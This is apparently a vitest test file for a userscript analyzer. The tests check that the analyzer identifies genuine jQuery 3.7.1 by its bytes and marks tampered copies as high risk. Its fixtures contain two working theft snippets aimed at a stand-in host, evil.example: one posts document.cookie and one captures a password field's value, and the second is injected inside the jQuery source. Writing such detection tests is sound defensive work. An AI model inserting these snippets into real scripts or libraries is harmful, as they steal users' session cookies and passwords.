import { readFileSync } from "node:fs";
import { createRequire } from "node:module";
import { analyzeScript } from "@scriptorium/script-analyzer/analyze-script";
import { describe, expect, test } from "vitest";

const jquery = readFileSync(createRequire(import.meta.url).resolve("jquery/dist/jquery.min.js"), "utf8");
/** A place of a checksum only: whoever owns it decides what the file contains. */
const ELSEWHERE = "https://cdn.jsdelivr.net/npm/own-jquery@3.7.1/jquery.min.js";
const ON_NPM = "https://cdn.jsdelivr.net/npm/jquery@3.7.1/dist/jquery.min.js";

const rate = (text: string, address = ELSEWHERE) =>
	analyzeScript({
		code: `// ==UserScript==\n// @name a\n// @match https://shop.example/*\n// @require ${address}\n// ==/UserScript==\n$('.ad').remove();`,
		libraries: [{ address, text }],
	});

describe("rated libraries", () => {
	test.each([ELSEWHERE, ON_NPM, "https://evil.example/x.js"])(
		"jQuery as published is known by its bytes, at %s",
		(address) => {
			const { capabilities, vulnerabilities } = rate(jquery, address);
			expect(capabilities.libraries).toMatchObject([{ state: "known", name: "jQuery 3.7.1" }]);
			expect(vulnerabilities.filter(({ type }) => type !== "unpinned-require")).toEqual([]);
		},
	);

	const steal = "fetch('https://evil.example/c', { method: 'POST', body: document.cookie });";
	const listen =
		"(function(){var i=document.querySelector('input[type=password]');i&&i.addEventListener('change',function(){new Image().src='https://evil.example/?'+i.value})})()";
	test.each([
		["before it, at the address of jQuery", ON_NPM, `${steal}\n${jquery}`],
		["inside of it", ELSEWHERE, jquery.replace("ce.fn=ce.prototype", `${listen},ce.fn=ce.prototype`)],
	])("a theft %s is found, and the file is not taken for jQuery", (_, address, text) => {
		expect(text).not.toBe(jquery);
		const { risk_level, vulnerabilities, capabilities } = rate(text, address);
		expect(risk_level).toBe("red");
		expect(vulnerabilities[0]?.description).toMatch(
			/^In the library jquery\.min\.js of cdn\.jsdelivr\.net: .*evil\.example/,
		);
		expect(capabilities.libraries?.[0]?.state).not.toBe("known");
	});
});
